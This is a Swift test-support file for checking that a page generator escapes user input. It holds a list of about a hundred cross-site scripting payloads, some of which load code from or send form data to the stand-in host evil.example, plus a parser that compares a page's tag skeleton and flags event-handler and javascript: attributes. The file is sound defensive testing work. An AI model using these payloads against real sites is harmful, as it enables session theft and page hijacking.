// A hundred texts that want to be markup, and a reader that sees whether one has become it: the
// skeleton of a page is its tags without its words, and words must not change it.

public import Hall

/// Texts for every place a person can type into.
public let mischief: [String] = [
  ##"<script>alert(1)</script>"##,
  ##"<ScRiPt>alert(1)</sCrIpT>"##,
  ##"<script src=//evil.example/x.js></script>"##,
  ##"<script>/*"##,
  ##"</script><script>alert(1)</script>"##,
  ##"</SCRIPT ><script>alert(1)//"##,
  ##"</style><script>alert(1)</script>"##,
  ##"</title><script>alert(1)</script>"##,
  ##"</textarea><script>alert(1)</script>"##,
  ##"<!--<script>alert(1)</script>"##,
  ##"--><script>alert(1)</script>"##,
  ##"<!--><script>alert(1)</script>"##,
  ##"]]><script>alert(1)</script>"##,
  ##"<![CDATA[<script>alert(1)</script>]]>"##,
  ##"<img src=x onerror=alert(1)>"##,
  ##"<IMG SRC=x ONERROR=alert(1)>"##,
  ##"<img/src=x/onerror=alert(1)>"##,
  ##"<img src="x" onerror="alert(1)">"##,
  ##"<img src='x' onerror='alert(1)'>"##,
  ##"<img src=`x` onerror=`alert(1)`>"##,
  ##"<img src=javascript:alert(1)>"##,
  ##"<img """><script>alert(1)</script>">"##,
  ##"<svg onload=alert(1)>"##,
  ##"<svg/onload=alert(1)>"##,
  ##"<svg><script>alert(1)</script></svg>"##,
  ##"<svg><animate onbegin=alert(1) attributeName=x dur=1s>"##,
  ##"<svg><a xlink:href="javascript:alert(1)"><text>x</text></a>"##,
  ##"<math><mi xlink:href="javascript:alert(1)">x</mi></math>"##,
  ##"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"##,
  ##"<body onload=alert(1)>"##,
  ##"<iframe src=javascript:alert(1)>"##,
  ##"<iframe srcdoc="<script>alert(1)</script>">"##,
  ##"<object data=javascript:alert(1)>"##,
  ##"<embed src=javascript:alert(1)>"##,
  ##"<link rel=stylesheet href=//evil.example/x.css>"##,
  ##"<meta http-equiv=refresh content="0;url=javascript:alert(1)">"##,
  ##"<base href=//evil.example/>"##,
  ##"<form action=//evil.example><input name=choice>"##,
  ##"</form><form action=//evil.example>"##,
  ##"<button formaction=javascript:alert(1)>"##,
  ##"<input autofocus onfocus=alert(1)>"##,
  ##"<select autofocus onfocus=alert(1)>"##,
  ##"<textarea autofocus onfocus=alert(1)>"##,
  ##"<keygen autofocus onfocus=alert(1)>"##,
  ##"<details open ontoggle=alert(1)>"##,
  ##"<video><source onerror=alert(1)>"##,
  ##"<audio src=x onerror=alert(1)>"##,
  ##"<marquee onstart=alert(1)>"##,
  ##"<a href="javascript:alert(1)">x</a>"##,
  ##"<a href=data:text/html,<script>alert(1)</script>>x</a>"##,
  ##"<style>@import '//evil.example/x.css';</style>"##,
  ##"<style>*{background:url(//evil.example)}</style>"##,
  ##"<div style="background:url(javascript:alert(1))">"##,
  ##"<div style=width:expression(alert(1))>"##,
  ##"<x onclick=alert(1)>x</x>"##,
  ##"<template><script>alert(1)</script></template>"##,
  ##"<noscript><p title="</noscript><img src=x onerror=alert(1)>">"##,
  ##"<plaintext>"##,
  ##"<xmp><script>alert(1)</script>"##,
  ##"<isindex type=image src=1 onerror=alert(1)>"##,
  ##""><script>alert(1)</script>"##,
  ##"'><script>alert(1)</script>"##,
  ##"" onmouseover="alert(1)"##,
  ##"' onmouseover='alert(1)"##,
  ##"" autofocus onfocus=alert(1) x=""##,
  ##"` onmouseover=alert(1) x=`"##,
  ##""/><svg/onload=alert(1)>"##,
  ##"">"##,
  ##"'>"##,
  ##"">'>"##,
  ##"<"##,
  ##">"##,
  ##"&"##,
  ##"""##,
  ##"'"##,
  ##"&lt;script&gt;alert(1)&lt;/script&gt;"##,
  ##"&#60;script&#62;alert(1)&#60;/script&#62;"##,
  ##"&#x3c;script&#x3e;alert(1)"##,
  ##"&lt"##,
  ##"\u003cscript\u003ealert(1)\u003c/script\u003e"##,
  ##"\x3cscript\x3ealert(1)"##,
  ##"\"><script>alert(1)</script>"##,
  ##"\';alert(1)//"##,
  ##"';alert(1);'"##,
  ##"";alert(1);""##,
  ##""};alert(1);{""##,
  ##"{"ko":"<script>alert(1)</script>"}"##,
  ##"</script"##,
  ##"<script"##,
  ##"<//script>"##,
  ##"<%00script>alert(1)</script>"##,
  ##"<\##u{200B}script>alert(1)</script>"##,
  ##"<s\##u{200D}cript>alert(1)</script>"##,
  ##"＜script＞alert(1)＜/script＞"##,
  ##"<\##u{301}script>alert(1)</script>"##,
  ##"<\##u{FE0F}img src=x onerror=alert(1)>"##,
  ##"{{css}}"##,
  ##"{{JS}}{{MAIN}}"##,
  ##"{{MAIN}}<script>alert(1)</script>"##,
  ##"<!-- block:row --><script>alert(1)</script><!-- end -->"##,
  ##"${alert(1)}<b>"##,
  ##"%3Cscript%3Ealert(1)%3C/script%3E<b>"##,
  ##"javascript:alert(1)//"><b>"##,
]

/// What a page is built of.
public struct Skeleton: Equatable, Sendable {
  /// Every tag as it stands, in order, with comments and declarations.
  public private(set) var tags: [String] = []
  /// What stands inside script and style elements, in order.
  public private(set) var inside: [(tag: String, text: String)] = []
  /// Everything between the tags.
  public private(set) var words = ""

  /// Reads a page as browsers do: quotes hold in tags, and script and style end at their own end.
  public init(_ html: String) {
    var rest = Array(html.utf8)[...]
    while let open = rest.firstIndex(of: UInt8(ascii: "<")) {
      words += text(rest[..<open])
      let tag = Skeleton.tag(rest[open...])
      tags.append(text(tag))
      rest = rest[tag.endIndex...]
      let name = Skeleton.name(tag)
      guard name == "script" || name == "style" else { continue }
      let end = Skeleton.end(of: name, in: rest)
      inside.append((text(tag), text(rest[..<end])))
      rest = rest[end...]
    }
    words += text(rest)
  }

  public static func == (a: Skeleton, b: Skeleton) -> Bool { a.tags == b.tags }

  private static func tag(_ bytes: ArraySlice<UInt8>) -> ArraySlice<UInt8> {
    var quote: UInt8?
    for index in bytes.indices {
      let byte = bytes[index]
      if let open = quote {
        if byte == open { quote = nil }
      } else if byte == UInt8(ascii: "\"") || byte == UInt8(ascii: "'") {
        quote = byte
      } else if byte == UInt8(ascii: ">") {
        return bytes[...index]
      }
    }
    return bytes
  }

  private static func name(_ tag: ArraySlice<UInt8>) -> String {
    text(tag.dropFirst().prefix { ($0 | 0x20) >= 0x61 && ($0 | 0x20) <= 0x7A }).lowercased()
  }

  private static func end(of name: String, in bytes: ArraySlice<UInt8>) -> Int {
    let wanted = Array("</\(name)".utf8)
    var rest = bytes
    while let start = rest.firstIndex(of: UInt8(ascii: "<")) {
      let found = bytes[start...].prefix(wanted.count).map {
        $0 < 0x41 || $0 > 0x5A ? $0 : $0 | 0x20
      }
      if found == wanted { return start }
      rest = bytes[(start + 1)...]
    }
    return bytes.endIndex
  }
}

private func text(_ bytes: ArraySlice<UInt8>) -> String { String(decoding: bytes, as: UTF8.self) }

extension Skeleton {
  /// Attributes that run or dress something: a page of ours has none.
  public var livelyTags: [String] {
    tags.filter { tag in
      let spaced = tag.lowercased().split(whereSeparator: { " \t\n/\"'".contains($0) })
      return spaced.dropFirst().contains { $0.hasPrefix("on") && $0.contains("=") }
        || tag.lowercased().contains("javascript:")
        || spaced.dropFirst().contains { $0.hasPrefix("style=") }
    }
  }
}

extension Plan {
  /// The sample with `text` wherever a person may write.
  public static func sample(saying text: String) -> Plan {
    var plan = Plan.sample
    let words = Words(text, text)
    plan.title = words
    plan.subtitle = words
    plan.host = words
    plan.place = words
    plan.question = words
    plan.promise = words
    plan.wifi = text
    plan.rules = [words]
    for index in plan.agenda.indices {
      plan.agenda[index].title = words
      plan.agenda[index].line = words
      plan.agenda[index].prompts = [words]
    }
    for poll in plan.polls.indices {
      plan.polls[poll].title = words
      plan.polls[poll].question = words
      for option in plan.polls[poll].options.indices {
        plan.polls[poll].options[option].text = words
      }
    }
    plan.themes = [ThemePlan(title: words, seeds: [text])]
    return plan
  }
}
